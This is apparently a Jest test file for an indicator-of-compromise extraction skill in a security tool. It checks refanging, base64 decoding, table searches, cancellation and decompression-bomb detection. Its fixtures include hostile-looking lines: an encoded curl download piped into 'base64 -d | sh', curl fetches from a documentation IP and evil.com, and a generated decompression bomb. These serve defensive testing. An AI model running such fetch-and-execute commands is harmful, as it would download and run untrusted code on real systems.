import { afterAll, describe, expect, it } from '@jest/globals';
import { gzipSync } from 'node:zlib';
import { createWorkerPool } from '../../analysis/pool/worker-pool.js';
import type { Finding } from '../../casebook/finding.js';
import type { Value } from '../../data/table.js';
import type { Arg } from '../../language/spec.js';
import { runSkill, type TestWorld } from '../kit/context.test-helper.js';
import ioc from './skill.js';

const pool = createWorkerPool({ size: 1 });
afterAll(() => pool.close());

const text = (value: string): Arg => ({ kind: 'text', text: value });
const table: Arg = { kind: 'variable', name: 'procs' };
const column: Arg = { kind: 'variable', name: 'procs', column: 'Line' };
const world = (rows: readonly (readonly Value[])[], extra: Partial<TestWorld> = {}): TestWorld => ({
  pool, ...extra,
  tables: { procs: { columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Line', type: 'string' }, { name: 'Extra', type: 'dynamic' }, { name: 'Pid', type: 'long' }], rows } },
});
const lines = (values: readonly string[], extra: Partial<TestWorld> = {}): TestWorld => world(values.map((value, at) => [`2026-01-0${(at % 9) + 1}T00:00:00Z`, value, null, at]), extra);
const run = (input: Arg, of: TestWorld = { pool }, type = 'all', decode = 'no'): Promise<Finding> => runSkill(ioc, { input, type: text(type), decode: text(decode) }, of);
const rowsOf = ({ table: found }: Finding) => (found === undefined || 'ref' in found ? [] : found.rows);
const columnsOf = ({ table: found }: Finding) => (found === undefined || 'ref' in found ? [] : found.columns.map(({ name }) => name));

describe('ioc', () => {
  it('lists the indicators of a text, refanged, with their places', async () => {
    const finding = await run(text('GET hxxp://evil[.]com/a, then hxxp://evil[.]com/a'));
    expect(finding).toMatchObject({ headline: '2 indicators in the text: 1 domain, 1 URL', severity: 'info', notes: [] });
    expect(columnsOf(finding)).toEqual(['Type', 'Value', 'Count', 'Source', 'Offset', 'Length']);
    expect(rowsOf(finding)).toEqual([['domain', 'evil.com', 2, 'the text', 11, 10], ['url', 'http://evil.com/a', 2, 'the text', 4, 19]]);
    expect(finding.entities).toEqual([
      { type: 'domain', value: 'evil.com', note: '2 times, first in the text' }, { type: 'url', value: 'http://evil.com/a', note: '2 times, first in the text' },
    ]);
    expect(finding.next).toEqual([{ label: 'Enrich them', say: 'enrich #this.Value' }]);
  });

  it('says when there is nothing', async () => {
    const finding = await run(text('cmd.exe /c dir'));
    expect(finding).toMatchObject({ headline: 'No indicator was found in the text', severity: 'none', entities: [], next: [] });
    expect(finding.table).toBeUndefined();
  });

  it('searches equal values of a column once, and tells when each indicator was seen', async () => {
    const finding = await run(column, lines(['ping 203.0.113.9', 'whoami', 'ping 203.0.113.9', 'curl http://203.0.113.9/x']));
    expect(columnsOf(finding).slice(0, 6)).toEqual(['Type', 'Value', 'Count', 'Source', 'FirstSeen', 'LastSeen']);
    expect(rowsOf(finding).map((row) => row.slice(0, 6))).toEqual([
      ['ipv4', '203.0.113.9', 3, 'row 1', '2026-01-01T00:00:00Z', '2026-01-04T00:00:00Z'],
      ['url', 'http://203.0.113.9/x', 1, 'row 4', '2026-01-04T00:00:00Z', '2026-01-04T00:00:00Z'],
    ]);
    expect(finding.facts).toEqual([{ label: 'Values read', value: '3 distinct in 4 rows' }]);
    expect(finding.next.map(({ say }) => say)).toEqual(['enrich #this.Value', 'ioc $procs.Line decode=yes', 'decode $procs.Line']);
  });

  it('looks inside of encodings, counts rows there, and gives the place of what was encoded', async () => {
    const encoded = `sh -c "echo ${Buffer.from('curl http://203.0.113.9/x -o /tmp/x').toString('base64')} | base64 -d | sh"`;
    const finding = await run(column, lines([encoded, 'ping 203.0.113.9', encoded, 'ping 198.51.100.7 203.0.113.9']), 'network', 'yes');
    expect(rowsOf(finding).map((row) => [...row.slice(0, 4), ...row.slice(6)])).toEqual([
      ['ipv4', '203.0.113.9', 4, 'layer 1 of row 1', 28, 15], ['ipv4', '198.51.100.7', 1, 'row 4', 5, 12], ['url', 'http://203.0.113.9/x', 2, 'layer 1 of row 1', 18, 28],
    ]);
    expect(finding.entities[0]).toEqual({ type: 'ip', value: '203.0.113.9', note: '4 times, first in layer 1 of row 1' });
    expect(finding.next.map(({ say }) => say)).toEqual(['enrich #this.Value', 'decode $procs.Line']);
    const many = await run(column, lines(Array.from({ length: 600 }, (_, at) => `echo ${Buffer.from(`curl http://203.0.113.9/${at}`).toString('base64')}`)), 'url', 'yes');
    expect(many.headline).toBe('600 indicators in $procs.Line: 600 URLs');
  });

  it('tells what it did not decode', async () => {
    const bomb = gzipSync(Buffer.alloc(20_000_000, 'a')).toString('base64');
    expect((await run(text(`x ${bomb}`), { pool }, 'all', 'yes')).notes).toEqual([expect.stringContaining('decompression bomb')]);
  });

  it('searches all text and dynamic columns of a table', async () => {
    const finding = await run(table, world([['2026-01-01T00:00:00Z', 'a@evil.com', { url: 'http://evil.com/x' }, 1], ['2026-01-02T00:00:00Z', '', ['198.51.100.7', 'http://evil.com/x'], 2]]));
    expect(rowsOf(finding).map((row) => row.slice(0, 4))).toEqual([
      ['ipv4', '198.51.100.7', 1, 'Extra, row 2'], ['domain', 'evil.com', 2, 'Extra, row 1'], ['url', 'http://evil.com/x', 2, 'Extra, row 1'], ['email', 'a@evil.com', 1, 'Line, row 1'],
    ]);
  });

  it.each([['ip', ['ipv4']], ['url', ['url']], ['network', ['ipv4', 'url']], ['hash', []], ['path', ['windows_path']]])('lists only what type=%s names', async (type, expected) => {
    expect(rowsOf(await run(text('curl http://203.0.113.9/x > C:\\Temp\\a.exe'), { pool }, type)).map(([kind]) => kind)).toEqual(expected);
  });

  it('searches thousands of values in a worker', async () => {
    const said: string[] = [];
    const finding = await run(column, lines(Array.from({ length: 3_000 }, (_, at) => `curl http://203.0.${at % 250}.9/${at}`), { progress: (line) => { said.push(line); } }));
    expect(finding.headline).toBe('3,250 indicators in $procs.Line: 250 IPv4 addresses, 3,000 URLs');
    expect(finding.entities).toHaveLength(100);
    expect(finding.entities.filter(({ type }) => type === 'ip')).toHaveLength(50);
    expect(said).toEqual(['Searching 3,000 distinct values']);
  });

  it('stops when the run is cancelled', async () => {
    await expect(run(column, lines(Array.from({ length: 600 }, (_, at) => `ping 203.0.113.${at}`), { signal: AbortSignal.abort() }))).rejects.toMatchObject({ code: 'run.cancelled' });
  });

  it('refuses what holds no text', async () => {
    await expect(run(column, lines(['', '']))).rejects.toMatchObject({ code: 'table.empty' });
    const numbers: TestWorld = { pool, tables: { procs: { columns: [{ name: 'Pid', type: 'long' }], rows: [[1]] } } };
    await expect(run(table, numbers)).rejects.toMatchObject({ code: 'input.invalid' });
  });
});
